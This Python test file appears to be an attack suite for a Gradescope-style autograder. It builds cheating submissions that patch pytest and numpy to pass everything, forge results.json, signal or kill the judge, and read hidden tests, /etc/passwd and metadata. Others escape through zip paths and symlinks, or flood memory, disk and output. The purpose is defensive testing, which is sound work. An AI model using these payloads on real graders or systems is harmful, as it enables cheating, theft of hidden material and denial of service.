"""The attack suite (issue 27, point 6): submissions that cheat, run through the real
run_autograder as Gradescope runs it (rtpy.grading.autograder, `extract`,
AUTOGRADER_ROOT).

Each attack starts from the week's untouched student repository (`make_assignment`)
and appends code to a task file (the first one, imported by every child) or adds or
replaces files of the submission. Code that runs in the student's process marks that
it ran (a file in a world-writable folder of the test), so an attack that never ran
cannot pass for a defended one. For every attack:

- run_autograder exits 0 and writes a valid results.json;
- its score is at most the untouched repository's score for that week;
- no process of the sandbox user is left (sandbox mode) and no rtpy-judge-* folder is
  left in the judge's TMPDIR;
- the text the student reads (the top output, every test's name and output) holds no
  line of the week's hidden checks, not the grading seed, and not the first line of
  /etc/passwd nor the Gradescope metadata file (`submission_metadata.json`, which the
  test puts where Gradescope does).

Modes, shown in every test id: **sandbox** when this process is root and
SANDBOX_PYTHON exists (as in CI): the judge runs on that Python, which the sandbox
user can run, so the student's code runs as that user; the suite checks that it did.
**same-user** otherwise (sys.executable): the attacks that need the other user
(signalling the judge, writing the results or the autograder's source, reading the
hidden checks, processes that leave the session) are skipped, as
docs/instructors.md says that isolation is then missing.

The autograder's root is made like Gradescope's /autograder (root's, 0755) rather than
in pytest's tmp folder (0700, which alone would stop the sandbox user from reaching
anything). Runs go two at a time: as root the judge makes a user for each run, so
ending every process of that user ends that run's alone.

Issue 44's attacks have checks of their own: a child that stops reading its requests
and a child that stops every newer process (a helper of the judge's) end within the
run's time limit; files written to /tmp, /var/tmp, /dev/shm and /run/lock do not
outlive the run, and 100k files in /tmp and /dev/shm and 256 MiB in /dev/shm are
bounded by the sandbox's private space (where the judge has one) and gone after it;
a connection to a listener on 127.0.0.1 is refused and the listener gets nothing;
reply bombs (200 MiB and 32 MiB of `[{},{},...]`) leave the judge's peak memory,
which it prints, under 1 GiB; a symbolic link loop named in a fake traceback
is not the autograder's failure.

Week 05 gets every attack; the other weeks the patching (all at once), forging and leaking
ones. All are slow but week 05's pytest patch. Known holes are xfail(strict) with the
hole as the reason, so that closing one turns its test into a failure to remove the
mark. test_inflated_noise_cannot_pass_a_wrong_render attacks the render verdict itself.
"""

from __future__ import annotations

import functools
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
import zipfile
from collections.abc import Callable
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest

from rtpy.grading.assignment import WEEKS, make_assignment
from rtpy.grading.autograder import build_autograder, extract

ROOT = Path(__file__).resolve().parents[2]
SANDBOX_PYTHON = Path(os.environ.get("RTPY_SANDBOX_PYTHON", "/opt/rtpy-sandbox-python/bin/python"))
SANDBOXED = hasattr(os, "geteuid") and os.geteuid() == 0 and SANDBOX_PYTHON.is_file()
MODE = "sandbox" if SANDBOXED else "same-user"
PYTHON = str(SANDBOX_PYTHON) if SANDBOXED else sys.executable
TEST_TIMEOUT = 10  # seconds per grader test in these runs
TOTAL_TIMEOUT = 120
NEEDS_USER = (
    f"same-user mode (not root, or no {SANDBOX_PYTHON}): the student's code runs as the "
    "judge's user, which docs/instructors.md says can do this"
)


def passwd_first_line() -> str:
    line = Path("/etc/passwd").read_text().splitlines()[0]
    return ":".join(line.split(":")[:4])  # "root:x:0:0"


# --- what an attack is ------------------------------------------------------------------
@dataclass
class Context:
    """What an attack may know: the week, the paths of this run (written literally into
    the attack, as a student who read the docs could guess them), the task files."""

    week: str
    root: Path  # AUTOGRADER_ROOT
    marks: Path  # world-writable: the attack's code leaves a file here when it runs
    task_files: list[str]
    task_functions: list[dict]
    port: int = 0  # of LISTENER, on 127.0.0.1

    @property
    def left(self) -> str:
        """The name of what this run's attack leaves in the shared temporary folders."""
        return f"rtpy-attack-left-{self.root.parent.name}"

    @property
    def hidden(self) -> Path:
        return (
            self.root
            / "source/repo/assignments"
            / f"week{self.week}/hidden"
            / (f"test_week{self.week}_hidden.py")
        )

    @property
    def metadata(self) -> Path:
        return self.root / "submission_metadata.json"

    def values(self) -> dict[str, str]:
        return {
            "@ROOT@": repr(str(self.root)),
            "@MARKS@": repr(str(self.marks)),
            "@HIDDEN@": repr(str(self.hidden)),
            "@WEEK@": repr(self.week),
            "@RESULTS@": repr(str(self.root / "results" / "results.json")),
            "@SOURCE@": repr(str(self.root / "source" / "repo")),
            "@PORT@": str(self.port),
            "@LEFT@": repr(self.left),
        }


@dataclass
class Attack:
    name: str
    apply: Callable[[Path, Context], None]  # changes the submission (a repository copy)
    runs_code: bool = True  # its code must run in the student's process (marks)
    needs_user: bool = False  # skipped in same-user mode
    every_week: bool = False
    fast: bool = False
    hole: str = ""  # a known hole: xfail(strict) with this reason
    public_ok: bool = False  # world-readable files may be quoted in its own messages
    check: Callable | None = None  # extra checks: check(outcome, context)


PRELUDE = '''

# --- appended by the attack @NAME@ ---------------------------------------------------
def _attack_mark(what):
    import os
    try:
        open(os.path.join(@MARKS@, what + "-" + str(os.getpid())), "w").close()
    except OSError:
        pass


def _attack_on_probe(action):
    """Run action(request) in the grading child at each probe but the import check (so
    that the file passes that check); a reply it returns replaces the real one."""
    import rtpy.grading.child as child

    serve = child.serve

    def attacked(request, probes, base, task_files):
        if request.get("probe") != "import_everything":
            _attack_mark("@NAME@-probe")
            reply = action(request)
            if reply is not None:
                return reply
        return serve(request, probes, base, task_files)

    child.serve = attacked


def _attack_error(request, message):
    """The reply of a task method that raised Exception(message)."""
    error = {"kind": "exception", "type": "Exception", "message": message[:2000]}
    return {"id": request.get("id"), "error": dict(error, where=None)}


def _attack_forge_results():
    """A results.json of 1000 points, at the actual path and at Gradescope's."""
    import json
    fake = json.dumps({"score": 1000, "output": "forged", "tests": []})
    for path in (@RESULTS@, "/autograder/results/results.json"):
        try:
            with open(path, "w") as f:
                f.write(fake)
        except OSError:
            pass


_attack_mark("@NAME@")
'''


def append_code(body: str, raises: bool = False):
    """An attack that appends `body` to the first task file (run at import, in every
    child); with raises, its exceptions escape (else they are swallowed)."""

    def apply(repo: Path, ctx: Context, name: str = "") -> None:
        code = PRELUDE + (
            textwrap.dedent(body)
            if raises
            else "try:\n" + textwrap.indent(textwrap.dedent(body), "    ")
            + "\nexcept Exception:\n    pass\n"
        )  # fmt: skip
        for key, value in {**ctx.values(), "@NAME@": name}.items():
            code = code.replace(key, value)
        path = repo / ctx.task_files[0]
        path.write_text(path.read_text() + code)

    return apply


# --- patching the judging -------------------------------------------------------------
PATCH_PYTEST = """
import _pytest.python, _pytest.reports, _pytest.runner, pytest
_pytest.python.Function.runtest = lambda self: None
_pytest.reports.TestReport.passed = property(lambda self: True)
_pytest.reports.TestReport.failed = property(lambda self: False)
_pytest.runner.call_and_report = lambda item, when, log=True, **kw: None
pytest.fail = lambda *a, **k: None
_attack_mark("@NAME@-done")
"""
PATCH_GRADERS = """
import glob, importlib.util, os, sys
import rtpy.grading.graders as graders
for name in dir(graders):
    if name.startswith(("assert_", "compare", "check")):
        setattr(graders, name, lambda *a, **k: None)
pattern = os.path.join(os.getcwd(), "assignments", "week*", "**", "*.py")
for path in glob.glob(pattern, recursive=True):
    try:
        spec = importlib.util.spec_from_file_location("attacked_" + str(abs(hash(path))), path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        for name in dir(module):
            if name.startswith("test_"):
                setattr(module, name, lambda *a, **k: None)
        sys.modules[spec.name] = module
    except Exception:
        pass
_attack_mark("@NAME@-done")
"""
PATCH_RTPY_GRADING = """
import rtpy.grading.judge as judge, rtpy.grading.protocol as protocol
import rtpy.grading.results as results, rtpy.grading.sandbox as sandbox
protocol.check = lambda schema, value, where="": value
results.gradescope_results = lambda *a, **k: {"score": 1000, "output": "", "tests": []}
sandbox.answer = lambda reply, request_id, child: True
judge.Outcome.__init__ = lambda self, passed, output, renders=False: (
    setattr(self, "passed", True), setattr(self, "output", ""), setattr(self, "renders", renders)
)[0]
judge.Judge.message = lambda *a, **k: ""
import rtpy.grading as grading
grading.grade = lambda *a, **k: {"score": 1000, "max_score": 1000, "tests": []}
_attack_mark("@NAME@-done")
"""
PATCH_RTPY_TESTING = """
import rtpy.testing.statistics as statistics


class _Passed:
    passed = True

    def worst(self):
        return ""


statistics.block_z_test = lambda *a, **k: _Passed()
import rtpy.testing.material_checks as checks
for name in dir(checks):
    if name.startswith("check"):
        setattr(checks, name, lambda *a, **k: _Passed())
_attack_mark("@NAME@-done")
"""
PATCH_COMPARISONS = """
import math
import numpy as np, numpy.testing as npt
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
npt.assert_allclose = lambda *a, **k: None
npt.assert_array_equal = lambda *a, **k: None
math.isclose = lambda *a, **k: True
_attack_mark("@NAME@-done")
"""
PATCH_BUILTINS = """
import builtins
builtins.all = lambda iterable: True
builtins.any = lambda iterable: False
builtins.abs = lambda x: 0.0
builtins.AssertionError = type("AssertionError", (BaseException,), {})
_attack_mark("@NAME@-done")
"""
PATCH_EVERYTHING = "\n".join(
    "try:\n" + textwrap.indent(textwrap.dedent(p), "    ") + "except Exception:\n    pass\n"
    for p in (
        PATCH_PYTEST, PATCH_GRADERS, PATCH_RTPY_GRADING, PATCH_RTPY_TESTING,
        PATCH_COMPARISONS, PATCH_BUILTINS,
    )
)  # fmt: skip

# --- forging what the child reports ---------------------------------------------------
FORGE = """
import json, os, sys
from rtpy.grading.protocol import encode, write_frame

# at import: frames on the replies' fd (3, dup'ed from 1 before any student code) and
# every other low fd, and "passed" text on standard output
for fd in (1, 2, 3, 4, 5, 6):
    try:
        os.write(fd, encode({"id": 1, "value": None}) + encode({"score": 1000, "status": "passed"}))
        os.write(fd, b"\\x00\\x00\\x00\\x10{\\"status\\": 1}\\n")
    except OSError:
        pass
print(json.dumps({"score": 1000, "tests": [{"status": "passed"}]}))
print("PASSED " * 100)


def _replies():
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("replies")
        if hasattr(found, "write"):
            return found
        frame = frame.f_back


def _forge(request):
    out = _replies()
    rid = request.get("id", 0)
    if out is not None:
        for k in range(1, 20):  # answers to requests not asked yet
            write_frame(out, encode({"id": rid + k, "value": True}))
        _attack_mark("@NAME@-forged")
    return {"id": rid, "value": True, "status": "passed", "score": 1000}


_attack_on_probe(_forge)
"""

# --- writing files ----------------------------------------------------------------------
PLANTED_CONFTEST = """
import os
import pytest
try:
    open(os.path.join(@MARKS@, "planted-conftest-loaded-" + str(os.getpid())), "w").close()
except OSError:
    pass


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    call.excinfo = None
"""
WRITE_WORK_COPY = """
import os, stat
work = os.getcwd()  # the child runs in its copy of the repository
planted = @PLANTED@
targets = [
    os.path.join(work, "conftest.py"),
    os.path.join(work, "assignments", "week" + @WEEK@, "conftest.py"),
    os.path.join(work, "assignments", "week" + @WEEK@, "hidden", "conftest.py"),
    os.path.join(work, "rtpy", "grading", "judge.py"),
    os.path.join(work, "rtpy", "grading", "results.py"),
    os.path.join(work, "rtpy", "grading", "conftest.py"),
    "/autograder/source/repo/assignments/week" + @WEEK@ + "/conftest.py",
]
for target in targets:
    try:
        if target.startswith(work):  # hidden/ is not in the work copy: make it there
            os.makedirs(os.path.dirname(target), exist_ok=True)
        try:
            os.chmod(target, 0o666)
        except OSError:
            pass
        with open(target, "a") as f:
            f.write(planted)
        _attack_mark("@NAME@-wrote")
    except OSError:
        pass
"""
WRITE_RESULTS = """
import json, os
fake = json.dumps({"score": 1000, "output": "forged", "tests": []})
planted = @PLANTED@


def _write(request=None):
    for path, text in (
        (@RESULTS@, fake),
        ("/autograder/results/results.json", fake),
        (os.path.join(@SOURCE@, "assignments", "week" + @WEEK@, "conftest.py"), planted),
        (os.path.join(@SOURCE@, "rtpy", "grading", "judge.py"), planted),
        (os.path.join(@SOURCE@, "conftest.py"), planted),
    ):
        try:
            with open(path, "a" if path.endswith(".py") else "w") as f:
                f.write(text)
            _attack_mark("@NAME@-wrote")
        except OSError:
            pass


_write()
_attack_on_probe(_write)
"""

# --- killing, signalling, outliving -------------------------------------------------------
SIGNAL_JUDGE = """
import json, os, signal


def _sandboxed():
    import pwd
    try:
        name = pwd.getpwuid(os.getuid()).pw_name
    except KeyError:
        return False
    return os.getuid() != 0 and name.startswith("rtpy-sandbox")


def _signal(request):
    parent = os.getppid()
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(parent, sig)
            _attack_mark("@NAME@-signalled")
        except OSError:
            pass
    if _sandboxed():  # never as the judge's user: its group and -1 are this machine's
        try:
            os.killpg(os.getpgid(parent), signal.SIGKILL)
        except OSError:
            pass
    _attack_forge_results()
    if _sandboxed():
        os.kill(-1, signal.SIGKILL)  # every process this user may signal


_attack_on_probe(_signal)
"""
KILL_OWN_GROUP = """
import os, signal


def _kill(request):
    if os.getpgrp() != os.getpid():  # the group is shared with the judge: spare it
        _attack_mark("@NAME@-shared-group")
        return None
    os.killpg(os.getpgrp(), signal.SIGKILL)


_attack_on_probe(_kill)
"""
DESCENDANTS = """
import json, os, time


def _outlive(request):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:  # the grandchild, in a session of its own
            _attack_mark("@NAME@-grandchild")
            for _ in range(300):  # 30 s
                time.sleep(0.1)
                _attack_forge_results()
            os._exit(0)
        os._exit(0)
    os.wait()


_attack_on_probe(_outlive)
"""

HOME_LINK = """
import os
# a judge (root) that wrote each new child's configuration into this user's HOME would
# write through a link left there, wherever it points
config = os.path.join(os.environ["HOME"], "child-config.json")
if os.path.lexists(config):
    os.unlink(config)
os.symlink(@WITNESS@, config)
_attack_mark("@NAME@-linked")
"""

# --- leaking --------------------------------------------------------------------------------
LEAK_HIDDEN = """
import os

_leaked = []


def _leak(request):
    texts = [" ".join(f"{k}={v}" for k, v in os.environ.items() if "SEED" in k or "RTPY" in k)]
    week = @WEEK@
    name = "test_week" + week + "_hidden.py"
    for path in (
        @HIDDEN@,
        "/autograder/source/repo/assignments/week" + week + "/hidden/" + name,
        os.path.join(os.getcwd(), "assignments", "week" + week, "hidden", name),
        os.path.join(@SOURCE@, "assignments", "week" + week, "test_week" + week + ".py"),
    ):
        try:
            texts.append(open(path).read())
            _attack_mark("@NAME@-read")
        except OSError:
            pass
    texts.append(repr(dict(os.environ)))
    try:
        texts.append(open("/proc/%d/environ" % os.getppid()).read())
    except OSError:
        pass
    _leaked.append(1)  # each probe shows the next text (a message is bounded)
    return _attack_error(request, texts[len(_leaked) % len(texts)] or "nothing")


_attack_on_probe(_leak)
"""
LEAK_FILES = """
def _leak(request):
    texts = []
    for path in ("/etc/passwd", @ROOT@ + "/submission_metadata.json",
                 "/autograder/submission_metadata.json"):
        try:
            texts.append(open(path).read())
            _attack_mark("@NAME@-read")
        except OSError:
            pass
    return _attack_error(request, "\\n".join(texts))


_attack_on_probe(_leak)
"""
LEAK_AT_IMPORT = """
_attack_mark("@NAME@-raising")
raise Exception(open("/etc/passwd").read() + open(@ROOT@ + "/submission_metadata.json").read())
"""

# --- objects, output, memory ---------------------------------------------------------------
EVIL_OBJECTS = '''
class _Always:
    """Equal to everything, NaN as a number, itself under any operation."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = object.__hash__

    def __bool__(self):
        return True

    def __float__(self):
        return float("nan")

    def __int__(self):
        return 0

    __index__ = __int__

    def __len__(self):
        return 3

    def __iter__(self):
        return iter([float("nan")] * 3)

    def __getitem__(self, key):
        return float("nan")

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return _Always()

    def __call__(self, *args, **kwargs):
        return self

    def _self(self, *args):
        return self

    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = _self
    __truediv__ = __rtruediv__ = __neg__ = __abs__ = __pow__ = __matmul__ = _self


class _Message(Exception):
    def __str__(self):
        raise _Message()


class _Bomb:
    """Raises on any use, with an exception that raises when shown."""

    def _boom(self, *args, **kwargs):
        raise _Message()

    __eq__ = __ne__ = __lt__ = __gt__ = __bool__ = __float__ = __int__ = __len__ = _boom
    __iter__ = __getitem__ = __add__ = __mul__ = __sub__ = __truediv__ = __repr__ = _boom
    __str__ = __call__ = __array__ = __index__ = _boom
    __hash__ = object.__hash__

    def __getattr__(self, name):
        raise _Message()


import importlib
for _k, (_path, _qualname) in enumerate(@FUNCTIONS@):
    try:
        _owner = importlib.import_module(_path.removesuffix(".py").replace("/", "."))
        *_classes, _name = _qualname.split(".")
        for _part in _classes:
            _owner = getattr(_owner, _part)
        _kind = _Always if _k % 2 == 0 else _Bomb
        setattr(_owner, _name, lambda *a, _kind=_kind, **k: _kind())
        _attack_mark("@NAME@-replaced")
    except Exception:
        pass
'''
FLOOD = """
import os, sys
_chunk = "x" * (1 << 20)
for _ in range(200):  # 200 MB on standard output (the judge's stderr pipe)
    sys.stdout.write(_chunk)
sys.stdout.flush()


def _flood(request):
    for _ in range(200):
        sys.stdout.write(_chunk)
    os.write(2, _chunk.encode() * 8)
    _attack_mark("@NAME@-flooded")


_attack_on_probe(_flood)
"""
MEMORY = """
_tried = []


def _eat(request):
    import numpy as np
    if _tried:  # once per child
        return None
    _tried.append(True)
    held = []
    try:
        held.append(bytearray(8 << 30))  # 8 GiB at once
    except MemoryError:
        _attack_mark("@NAME@-refused")
    try:
        for _ in range(8):  # then 1 GiB at a time, touched
            held.append(np.ones(1 << 27))
        _attack_mark("@NAME@-held-8")
    except MemoryError:
        _attack_mark("@NAME@-refused-%d" % len(held))
    held.clear()
    return _attack_error(request, "MemoryError")


_attack_on_probe(_eat)
"""
MEMORY_TREE = """
import glob, os, time


def _eat(request):
    import numpy as np
    if glob.glob(os.path.join(@MARKS@, "@NAME@-holding-*")):
        return None  # once per run
    children = []
    for _ in range(2):  # two processes of 2.5 GiB each: more than the 4 GiB limit in all
        pid = os.fork()
        if pid == 0:
            try:
                block = np.ones(5 << 25)  # 2.5 GiB, touched
                _attack_mark("@NAME@-holding")
                for _ in range(50):  # until both hold theirs (at most 5 s)
                    if len(glob.glob(os.path.join(@MARKS@, "@NAME@-holding-*"))) >= 2:
                        break
                    time.sleep(0.1)
            finally:
                os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)


_attack_on_probe(_eat)
"""


# --- the time limit, the machine, the judge's memory and paths (issue 44) ------------------
STOP_READING = """
import fcntl, glob, os, time


def _deaf(request):
    if glob.glob(os.path.join(@MARKS@, "@NAME@-deaf-*")):
        return None  # once per run
    import rtpy.grading.protocol as protocol

    _attack_mark("@NAME@-deaf")
    try:
        fcntl.fcntl(0, 1031, 4096)  # F_SETPIPE_SZ: the smallest request pipe
    except OSError:
        pass
    protocol._exactly = lambda stream, size: time.sleep(10**6)  # never reads again
    return None


_attack_on_probe(_deaf)
"""
STOP_THE_KILLER = """
import glob, os, signal, time


def _stopper():
    if glob.glob(os.path.join(@MARKS@, "@NAME@-stopper-*")) or os.fork() != 0:
        return  # one group per run
    os.setsid()
    for _ in range(6):  # six of them, each in a session of its own
        if os.fork() == 0:
            os.setsid()
            break
    else:
        os._exit(0)
    _attack_mark("@NAME@-stopper")
    me = os.getpid()
    end = time.monotonic() + 300
    while time.monotonic() < end:  # stop every newer process of this user but the children
        for pid in range(me + 1, me + 300):
            try:
                with open("/proc/%d/cmdline" % pid, "rb") as f:
                    if b"rtpy.grading.child" in f.read():
                        continue
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    os._exit(0)


_stopper()
"""
WRITE_EVERYWHERE = """
import os
for _folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
    _path = os.path.join(_folder, @LEFT@)
    try:
        os.makedirs(_path, exist_ok=True)
        with open(os.path.join(_path, "kept"), "w") as f:
            f.write("for the next run's user, who may get this uid")
        with open(_path + ".txt", "w") as f:
            f.write("and a file")
        _attack_mark("@NAME@-wrote")
    except OSError:
        pass
import ctypes
_shm = ctypes.CDLL(None).shmget(0, 4096, 0o1600)  # System V shared memory: kept by the kernel
if _shm >= 0:
    _attack_mark("@NAME@-shm-%d" % _shm)
"""
FILL_TEMP = """
import os
_size = 0
try:
    for _k in range(8):  # 256 MiB at most, each file within the file size limit
        with open(os.path.join("/dev/shm", @LEFT@ + "-fill-%d" % _k), "wb") as f:
            for _ in range(32):
                f.write(b"x" * 2**20)
                f.flush()
                _size += 2**20
except OSError:
    pass
_attack_mark("@NAME@-bytes-%d" % _size)
for _folder in ("/tmp", "/dev/shm"):
    _path, _n = os.path.join(_folder, @LEFT@ + "-many"), 0
    try:
        os.makedirs(_path, exist_ok=True)
        while _n < 100000:
            open(os.path.join(_path, str(_n)), "w").close()
            _n += 1
    except OSError:
        pass
    _attack_mark("@NAME@-files%s-%d" % (_folder.replace("/", "_"), _n))
"""
NETWORK = """
import socket


def _connect(request=None):
    try:
        s = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)
        s.sendall(repr(request).encode()[:1000])
        s.close()
        _attack_mark("@NAME@-connected")
    except PermissionError:
        _attack_mark("@NAME@-refused")
    except OSError:
        _attack_mark("@NAME@-failed")


_connect()
_attack_on_probe(_connect)
"""
REPLY_BOMB = """
import glob, os, struct, sys


def _replies():
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("replies")
        if hasattr(found, "write"):
            return found
        frame = frame.f_back


def _bomb(request):
    done = len(glob.glob(os.path.join(@MARKS@, "@NAME@-bombed-*")))
    out = _replies()
    if done >= 2 or out is None:
        return None
    _attack_mark("@NAME@-bombed")
    size = (200 if done == 0 else 32) * 2**20  # past the frame limit, then within it
    body = b"[" + b"{}," * (size // 3) + b"{}]"
    fd = out.fileno()
    os.write(fd, struct.pack(">I", len(body)))
    view = memoryview(body)
    while view:
        view = view[os.write(fd, view):]
    os._exit(0)


_attack_on_probe(_bomb)
"""
LOOP_IN_TRACEBACK = """
import os, sys
_loop = os.path.join(os.environ.get("HOME", "/tmp"), "loop")
try:
    os.symlink(_loop, _loop)
except OSError:
    pass
sys.stderr.write(
    'Traceback (most recent call last):\\n  File "%s/rtpy/light.py", line 3, in <module>\\n'
    "ZeroDivisionError: division by zero\\n" % _loop
)
sys.stderr.flush()
_attack_mark("@NAME@-printed")
os._exit(1)
"""


def evil_objects(repo: Path, ctx: Context, name: str = "") -> None:
    functions = [(f["path"], f["function"]) for f in ctx.task_functions]
    body = EVIL_OBJECTS.replace("@FUNCTIONS@", repr(functions))
    append_code(body)(repo, ctx, name)


def with_planted(body: str):
    def apply(repo: Path, ctx: Context, name: str = "") -> None:
        planted = PLANTED_CONFTEST.replace("@MARKS@", repr(str(ctx.marks)))
        append_code(body.replace("@PLANTED@", repr(planted)))(repo, ctx, name)

    return apply


# --- submissions with extra files, links, zips -----------------------------------------
EXTRA_CODE = "import os\nopen(os.path.join({marks!r}, 'extra-ran-{where}'), 'w').close()\n"


def extra_files(repo: Path, ctx: Context, name: str = "") -> None:
    """A conftest.py, sitecustomize.py, usercustomize.py, a .pth and packages shadowing
    numpy and pytest, at the submission's root and in rtpy/, and a conftest.py beside
    the graders; each marks if it ever runs."""
    for base in (repo, repo / "rtpy", repo / "assignments" / f"week{ctx.week}"):
        where = base.relative_to(repo).as_posix().replace("/", "_") or "root"
        code = EXTRA_CODE.format(marks=str(ctx.marks), where=where)
        for rel in ("conftest.py", "sitecustomize.py", "usercustomize.py",
                    "numpy/__init__.py", "pytest/__init__.py", "_pytest/__init__.py"):  # fmt: skip
            path = base / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(code)
        (base / "evil.pth").write_text(code.replace("\n", "; ").rstrip("; ") + "\n")


def symlinked(repo: Path, ctx: Context, name: str = "") -> None:
    """Task files that are symbolic links: to /etc/passwd, to the hidden checks and to
    the judge's source (their actual paths), and a task file under a linked folder."""
    targets = [
        Path("/etc/passwd"),
        ctx.hidden,
        ctx.root / "source" / "repo" / "rtpy" / "grading" / "judge.py",
    ]
    for rel, target in zip(ctx.task_files, targets, strict=False):
        (repo / rel).unlink()
        (repo / rel).symlink_to(target)
    if len(ctx.task_files) > 3:
        rel = Path(ctx.task_files[3])
        folder = repo / "linked"
        folder.mkdir()
        shutil.move(repo / rel, folder / rel.name)
        os.symlink(ctx.hidden, folder / "hidden.py")
        (repo / rel).symlink_to(folder / rel.name)


def zipped(repo: Path, ctx: Context, name: str = "") -> None:
    """The repository as a zip, with a task file as a symlink entry to /etc/passwd,
    entries that climb out with ../ or are absolute (one onto results.json), and the
    rest of the repository as it is; the folder then holds only the zip."""
    archive_path = repo.parent / "submission.zip"
    fake = json.dumps({"score": 1000, "output": "forged", "tests": []})
    with zipfile.ZipFile(archive_path, "w") as archive:
        for path in sorted(repo.rglob("*")):
            rel = path.relative_to(repo).as_posix()
            if path.is_file() and rel != ctx.task_files[0]:
                archive.write(path, rel)
        link = zipfile.ZipInfo(ctx.task_files[0])
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
        escapes = ctx.marks.parent / "escapes"
        for entry in ("../../results/results.json", "../../../autograder/results/results.json",
                      "rtpy/../../../escaped.txt", f"{escapes}/absolute.txt",
                      f"../../../../../../../..{escapes}/climbed.txt"):  # fmt: skip
            archive.writestr(entry, fake)
    shutil.rmtree(repo)
    repo.mkdir()
    shutil.move(archive_path, repo / "submission.zip")


# --- extra checks -------------------------------------------------------------------------
WITNESS = "a file only root may write\n"


def home_link(repo: Path, ctx: Context, name: str = "") -> None:
    witness = ctx.marks.parent / "root-only" / "witness.txt"
    witness.parent.mkdir(mode=0o700)
    witness.write_text(WITNESS)
    append_code(HOME_LINK.replace("@WITNESS@", repr(str(witness))))(repo, ctx, name)


def witness_intact(outcome: Outcome, ctx: Context) -> None:
    assert [m for m in outcome.marks if "-linked-" in m], "no link was made"
    witness = ctx.marks.parent / "root-only" / "witness.txt"
    assert witness.read_text() == WITNESS, f"the judge wrote {witness}: {witness.read_text()[:200]}"


def nothing_loaded(outcome: Outcome, ctx: Context) -> None:
    """No process but the student's own (whose pids its marks name) ran a planted file."""
    pids = lambda prefix: {m.rsplit("-", 1)[1] for m in outcome.marks if m.startswith(prefix)}  # noqa: E731
    loaded = pids("planted-conftest-loaded-") - pids("write_")
    assert not loaded, f"a conftest.py the student's code wrote was run by {loaded}"


def source_unchanged(outcome: Outcome, ctx: Context) -> None:
    nothing_loaded(outcome, ctx)
    assert not (ctx.root / "source/repo/conftest.py").exists()
    week_dir = ctx.root / "source/repo/assignments" / f"week{ctx.week}"
    assert not (week_dir / "conftest.py").read_text().count("planted-conftest")


def no_grandchild(outcome: Outcome, ctx: Context) -> None:
    assert [m for m in outcome.marks if "-grandchild-" in m], "no grandchild was started"
    for mark in outcome.marks:
        if "-grandchild-" in mark:
            pid = int(mark.rsplit("-", 1)[1])
            assert not alive(pid), f"the grandchild {pid} outlived the run"


def all_processes() -> list[int]:
    return [int(e.name) for e in Path("/proc").iterdir() if e.name.isdigit()]


def ours(pids: list[int], folder: Path) -> list[int]:
    """The live ones among pids that this run's child started, whatever their user (the
    judge makes a user per run and removes it): their environment (HOME, TMPDIR) or
    their folder is in the run's folder."""
    found = []
    for pid in pids:
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        inside = f"{folder}{os.sep}"  # not a sibling whose name starts alike
        if alive(pid) and (inside in environ or cwd.startswith(inside)):
            found.append(pid)
    return found


def alive(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/stat").read_text().split(") ")[-1][0]
    except OSError:
        return False
    return status != "Z"


def own_group(outcome: Outcome, ctx: Context) -> None:
    assert not [m for m in outcome.marks if "-shared-group-" in m], (
        "the child shares its process group with the judge"
    )


def extras_never_ran(outcome: Outcome, ctx: Context) -> None:
    ran = [m for m in outcome.marks if m.startswith("extra-ran-")]
    assert not ran, f"files outside the task files were run: {ran}"


def links_refused(outcome: Outcome, ctx: Context) -> None:
    assert "symbolic link" in outcome.results["output"], outcome.results["output"]


def zip_contained(outcome: Outcome, ctx: Context) -> None:
    escapes = ctx.marks.parent / "escapes"
    assert not escapes.exists() or not list(escapes.iterdir())
    assert (
        not (ctx.root / "escaped.txt").exists() and not (ctx.root.parent / "escaped.txt").exists()
    )
    assert outcome.results.get("output") != "forged"


def memory_bounded(outcome: Outcome, ctx: Context) -> None:
    assert not [m for m in outcome.marks if "-held-8" in m], "the child held 8 GiB"


def tree_memory_bounded(outcome: Outcome, ctx: Context) -> None:
    holding = [m for m in outcome.marks if "-holding-" in m]
    assert len(holding) < 2, f"{len(holding)} processes held 2.5 GiB each: no limit in all"


def in_time(outcome: Outcome, ctx: Context) -> None:
    assert outcome.seconds < TOTAL_TIMEOUT + 10, f"the run took {outcome.seconds:.0f} s"


def stopped_nothing(outcome: Outcome, ctx: Context) -> None:
    assert [m for m in outcome.marks if "-stopper-" in m], "the stoppers never ran"
    in_time(outcome, ctx)


def nothing_left(outcome: Outcome, ctx: Context) -> None:
    assert [m for m in outcome.marks if "-wrote-" in m], "nothing was written"
    left = [
        path
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")
        for path in (Path(folder) / ctx.left, Path(folder) / f"{ctx.left}.txt")
        if path.exists()
    ]
    assert not left, f"the sandbox's files outlived the run: {left}"
    made = {m.split("-shm-")[1].rsplit("-", 1)[0] for m in outcome.marks if "-shm-" in m}
    assert made, "no shared memory was made"
    lines = Path("/proc/sysvipc/shm").read_text().splitlines()
    kept = {line.split()[1] for line in lines[1:]} & made
